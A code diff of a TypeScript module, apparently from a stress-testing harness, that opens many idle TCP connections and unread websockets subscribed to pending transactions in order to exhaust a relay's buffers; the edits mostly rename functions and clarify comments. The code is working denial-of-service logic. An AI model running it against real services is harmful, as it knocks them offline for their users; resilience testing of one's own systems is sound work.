@@ -1,34 +1,36 @@
-// Connections that an attacker opens and then leaves as they are: idle ones, and websockets that are never read.
+// Connections that an attacker opens and keeps: idle ones, and websockets with subscriptions that it never reads.
 
 import { once } from "node:events";
 import { connect, type Socket } from "node:net";
 import type { AttackParams } from "./attackKinds.ts";
 import type { Tally } from "./flood.ts";
 
-/** Kept so that nothing of them is collected; they end with the process. */
+/** Keeps the sockets from being garbage-collected, which could close them. They end with the process. */
 const held: Socket[] = [];
-/** Connections that are opened at a time. */
+/** Connections that are opened at the same time. */
 const AT_ONCE = 256;
 const PENDING = "service_partialPendingTransactions";
-/** One that is not opened by then counts as refused, in ms. */
+/** A connection that is not open after this many ms counts as refused. */
 const OPEN_MS = 5_000;
-/** No frame of a client may be unmasked; zeros mask nothing. */
+/** Clients must mask frames (RFC 6455); a zero key leaves the payload unchanged. */
 const MASK = Buffer.alloc(4);
 
-/** Opens `count` connections and says nothing on them. */
+/** Opens `count` connections and sends nothing on them. */
 export function holdIdle(params: AttackParams): Promise<Tally> {
-	return holding(params, async () => {
-		const socket = await opened(params);
+	return openAll(params, async () => {
+		const socket = await openSocket(params);
 		if (socket === null) return "refused";
+		// Reading lets the socket notice when the relay closes it.
 		socket.resume();
 		return "accepted";
 	});
 }
 
-/** Opens `count` websockets with `size` subscriptions to pending transactions each, and reads no byte of them. */
+/** Opens `count` websockets with `size` subscriptions to pending transactions each, and reads nothing after the handshake. */
 export function holdUnread(params: AttackParams): Promise<Tally> {
-	return holding(params, async () => {
-		const socket = await opened(params);
+	const subscriptions = params.size ?? 1;
+	return openAll(params, async () => {
+		const socket = await openSocket(params);
 		if (socket === null) return "refused";
 		socket.write(
 			"GET /ws HTTP/1.1\r\nHost: relay\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
@@ -38,10 +40,11 @@ export function holdUnread(params: AttackParams): Promise<Tally> {
 			once(socket, "data").catch(() => [Buffer.from("reset")]),
 			once(socket, "close").then(() => [Buffer.from("closed")]),
 		])) as [Buffer];
-		// Nothing is read from here on: what comes fills the buffers of the system, then those of the relay.
+		// Nothing is read from here on, so what the relay sends fills the buffers of the system, then its own.
 		socket.pause();
+		// Counts failures by the status line, for example "HTTP/1.1 503".
 		if (!head.includes(" 101 ")) return head.subarray(0, 12).toString();
-		for (let i = 0; i < (params.size ?? 1); i++) {
+		for (let i = 0; i < subscriptions; i++) {
 			const body = { jsonrpc: "2.0", id: i, method: "eth_subscribe", params: [PENDING] };
 			socket.write(frame(JSON.stringify(body)));
 		}
@@ -49,7 +52,8 @@ export function holdUnread(params: AttackParams): Promise<Tally> {
 	});
 }
 
-async function holding({ count }: AttackParams, open: () => Promise<string>): Promise<Tally> {
+/** Calls `open` `count` times, and counts how often it returned each text. */
+async function openAll({ count }: AttackParams, open: () => Promise<string>): Promise<Tally> {
 	const begun = performance.now();
 	const outcomes: Record<string, number> = {};
 	let left = count;
@@ -64,8 +68,8 @@ async function holding({ count }: AttackParams, open: () => Promise<string>): Pr
 	return { sent: count, ms: Math.round(performance.now() - begun), outcomes };
 }
 
-/** Null where it is refused. */
-function opened({ url, from }: AttackParams): Promise<Socket | null> {
+/** Null if it did not open. */
+function openSocket({ url, from }: AttackParams): Promise<Socket | null> {
 	const { port, hostname } = new URL(url);
 	return new Promise((resolve) => {
 		const socket = connect({ port: Number(port), host: hostname, localAddress: from });
@@ -80,7 +84,7 @@ function opened({ url, from }: AttackParams): Promise<Socket | null> {
 	});
 }
 
-/** A text frame: RFC 6455, section 5.2. */
+/** A websocket text frame with `text`, see section 5.2 of RFC 6455. */
 function frame(text: string): Buffer {
 	const body = Buffer.from(text);
 	const head =
